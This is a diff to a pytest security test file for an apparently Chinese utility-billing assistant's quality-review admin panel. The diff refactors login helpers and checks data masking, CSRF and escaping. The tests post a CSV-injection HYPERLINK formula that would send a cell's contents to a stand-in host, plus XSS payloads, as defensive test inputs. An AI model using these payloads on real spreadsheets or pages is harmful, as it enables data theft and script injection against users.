@@ -9,19 +9,17 @@ from __future__ import annotations
 
 import csv
 import io
-import logging
-from collections.abc import Iterator
 from contextlib import closing
 
 import httpx
 import pytest
-from sqlmodel import col, func, select
-from uvicorn.logging import AccessFormatter
+from sqlmodel import func, select
 
-from assistant.accounts import create_user
 from assistant.dialogue import Channel
 from knowledge_base.db import session
 from knowledge_base.models import PayLinkRequest, ReminderMessage, utc_now
+from tests.quality.support import admin_client, reviewer_client
+from tests.security.test_hygiene import access_log  # noqa: F401  (a fixture, found by name)
 from tests.server_fixtures import (  # noqa: F401  (pytest finds the fixtures by name)
     ACCOUNTS,
     LiveServer,
@@ -31,20 +29,6 @@ from tests.server_fixtures import (  # noqa: F401  (pytest finds the fixtures by
 )
 
 DEMO_ACCOUNT = "3201000001"  # 张建华, 13800000001, an unpaid bill of 128.50 元
-REVIEWER = ("reviewer9", "review-password-9")
-
-
-def _reviewer(server: LiveServer) -> httpx.Client:
-    create_user(server.app.state.engine, REVIEWER[0], "reviewer", REVIEWER[1])
-    http = httpx.Client(base_url=server.url, timeout=30)
-    assert login(http, *REVIEWER).status_code == 303
-    return http
-
-
-def _admin(server: LiveServer) -> httpx.Client:
-    http = httpx.Client(base_url=server.url, timeout=30)
-    assert login(http, "admin1", ACCOUNTS["admin1"][1]).status_code == 303
-    return http
 
 
 def _say(http: httpx.Client, text: str, session_id: str | None = None, channel: str = "kiosk") -> dict:  # type: ignore[type-arg]
@@ -59,21 +43,6 @@ def _card_verified_conversation(server: LiveServer) -> str:
     return server.app.state.services.conversations.present_card(None, Channel.KIOSK, DEMO_ACCOUNT, "127.0.0.1")
 
 
-@pytest.fixture
-def access_log(live_server: LiveServer) -> Iterator[io.StringIO]:
-    """uvicorn's access log of the live server, as uvicorn writes it (the redaction filter applies)."""
-    written = io.StringIO()
-    handler = logging.StreamHandler(written)
-    handler.setFormatter(AccessFormatter('%(client_addr)s - "%(request_line)s" %(status_code)s', use_colors=False))
-    access = logging.getLogger("uvicorn.access")
-    level = access.level
-    access.setLevel(logging.INFO)
-    access.addHandler(handler)
-    yield written
-    access.removeHandler(handler)
-    access.setLevel(level)
-
-
 # --- Reviewer: masked data only; never a customer's live conversation ---------------------
 
 
@@ -85,7 +54,7 @@ def test_reviewer_cannot_take_over_a_verified_customers_conversation(live_server
     with httpx.Client(base_url=live_server.url, timeout=30) as customer:
         first = _say(customer, "查一下我的电费", session_id)
         assert "128" in first["text"], first["text"]  # the verified customer's own answer
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         drawn = reviewer.post("/api/admin/quality/samples/draw")
         assert drawn.status_code == 200, drawn.text
         leaked = [s.get("session_id") for s in drawn.json() if s.get("session_id")]
@@ -107,7 +76,7 @@ def test_reviewer_sees_a_phone_number_with_country_code_or_full_width_digits_mas
         live_server: LiveServer, said: str) -> None:
     with httpx.Client(base_url=live_server.url, timeout=30) as customer:
         _say(customer, said, channel="web")
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         samples = reviewer.post("/api/admin/quality/samples/draw").json()
         assert samples, "the conversation is sampled"
         page = reviewer.get(f"/admin/quality/samples/{samples[0]['id']}").text
@@ -123,7 +92,7 @@ def test_reviewer_sees_the_holders_name_masked_in_unanswered_groups(live_server:
     session_id = _card_verified_conversation(live_server)
     with httpx.Client(base_url=live_server.url, timeout=30) as customer:
         said = [_say(customer, "张建华阿巴阿巴", session_id)["intent"] for _ in range(2)]
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         shown = {"groups API": reviewer.get("/api/admin/quality/groups", params={"days": 1, "limit": 200}).text,
                  "groups page": reviewer.get("/admin/quality/groups", params={"days": 7}).text,
                  "groups CSV": reviewer.get("/api/admin/quality/export/groups.csv", params={"days": 1}).text}
@@ -230,7 +199,7 @@ def test_daily_report_pdf_prints_one_at_a_time(live_server: LiveServer, monkeypa
         return out
 
     monkeypatch.setattr(quality_routes, "print_pdf", fake_print)
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         with ThreadPoolExecutor(8) as pool:
             statuses = list(pool.map(lambda _: reviewer.get("/admin/quality/report.pdf").status_code, range(8)))
     assert all(code in (200, 429, 503) for code in statuses), statuses
@@ -263,14 +232,14 @@ def test_anonymous_payment_link_sms_to_any_number_is_bounded(live_server: LiveSe
 def test_rectification_export_neutralises_spreadsheet_formulas(live_server: LiveServer) -> None:
     """A reviewer's rectification title is exported as typed; a cell starting with = runs as a
     formula in the admin's Excel (CSV injection)."""
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         made = reviewer.post("/api/admin/quality/rectifications", json={
             "title": '=HYPERLINK("http://203.0.113.9/x?"&A1,"点这里")', "category": "knowledge",
             "owner": "=1+2", "deadline": "2026-12-31"})
         assert made.status_code in (201, 422), made.text
         if made.status_code == 422:
             pytest.skip(f"refused: {made.text}")
-    with closing(_admin(live_server)) as admin:
+    with closing(admin_client(live_server)) as admin:
         exported = admin.get("/api/admin/quality/export/rectifications.csv").text
     cells = [cell for row in list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[1:] for cell in row]
     assert cells, exported
@@ -306,7 +275,7 @@ def test_a_finished_calls_uuid_does_not_verify_a_second_socket(live_server: Live
 
 
 def test_reviewer_cannot_reach_admin_only_writes(live_server: LiveServer) -> None:
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         token = reviewer.headers["X-CSRF-Token"]
         assert reviewer.post("/api/admin/quality/groups/add-examples",
                              json={"intent": "query_bill", "examples": ["我家这个月电费"]}).status_code == 403
@@ -319,7 +288,7 @@ def test_reviewer_cannot_reach_admin_only_writes(live_server: LiveServer) -> Non
 
 
 def test_quality_and_reminder_forms_need_the_csrf_token(live_server: LiveServer) -> None:
-    with closing(_admin(live_server)) as admin:
+    with closing(admin_client(live_server)) as admin:
         del admin.headers["X-CSRF-Token"]
         for path, form in (("/admin/quality/rectifications", {"title": "t", "category": "knowledge", "owner": "o",
                                                                "deadline": "2026-12-31"}),
@@ -331,7 +300,7 @@ def test_quality_and_reminder_forms_need_the_csrf_token(live_server: LiveServer)
 
 
 def test_rectification_text_is_escaped_on_the_pages_and_the_report(live_server: LiveServer) -> None:
-    with closing(_reviewer(live_server)) as reviewer:
+    with closing(reviewer_client(live_server)) as reviewer:
         assert reviewer.post("/api/admin/quality/rectifications", json={
             "title": "<script>alert(1)</script>", "category": "knowledge", "owner": "<img src=x onerror=alert(1)>",
             "deadline": "2026-12-31"}).status_code == 201
